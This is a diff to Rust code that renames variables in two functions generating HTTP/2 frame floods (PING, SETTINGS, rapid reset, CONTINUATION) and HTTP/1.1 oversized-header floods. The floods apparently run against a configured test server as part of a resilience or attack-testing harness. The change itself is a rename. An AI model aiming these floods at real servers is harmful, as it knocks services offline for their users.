@@ -13,7 +13,7 @@ const CONNECTIONS: usize = 4;
 
 pub(super) async fn frame_floods(attack: &RunningAttack) {
     let head = request_head(LIST, &[("authorization", &attack.context.authorization)]);
-    let (flood, more) = (attack.number(0..5), literal("x-more", &"x".repeat(16_000)));
+    let (flood, header) = (attack.number(0..5), literal("x-more", &"x".repeat(16_000)));
     let bytes = |round: u32| match flood {
         0 => frame(kind::PING, 0, 0, &[7; 8]).repeat(64),
         1 => frame(kind::SETTINGS, 0, 0, &[]).repeat(64),
@@ -21,7 +21,7 @@ pub(super) async fn frame_floods(attack: &RunningAttack) {
             .flat_map(|n| rapid_reset(2 * (64 * round + n) + 1, &head))
             .collect(),
         3 if round == 0 => frame(kind::HEADERS, 0, 1, &head),
-        3 => frame(kind::CONTINUATION, 0, 1, &more),
+        3 => frame(kind::CONTINUATION, 0, 1, &header),
         _ => {
             let opened = if round == 0 {
                 frame(kind::HEADERS, kind::END_HEADERS, 1, &head)
@@ -91,7 +91,7 @@ pub(super) async fn head_floods(attack: &RunningAttack) {
         ),
         ("GET / HTTP/1.1\r\nX-More: ".into(), vec![b'x'; 16_000]),
     ];
-    let (head, again) = attack.choose(&floods);
+    let (head, repeated) = attack.choose(&floods);
     attack
         .repeat(CONNECTIONS, async |_| {
             let Ok(mut stream) = TcpStream::connect(attack.server.http).await else {
@@ -101,7 +101,7 @@ pub(super) async fn head_floods(attack: &RunningAttack) {
             while sent.is_ok() {
                 attack.pace().await;
                 attack.count_call();
-                sent = stream.write_all(&again).await;
+                sent = stream.write_all(&repeated).await;
             }
         })
         .await;
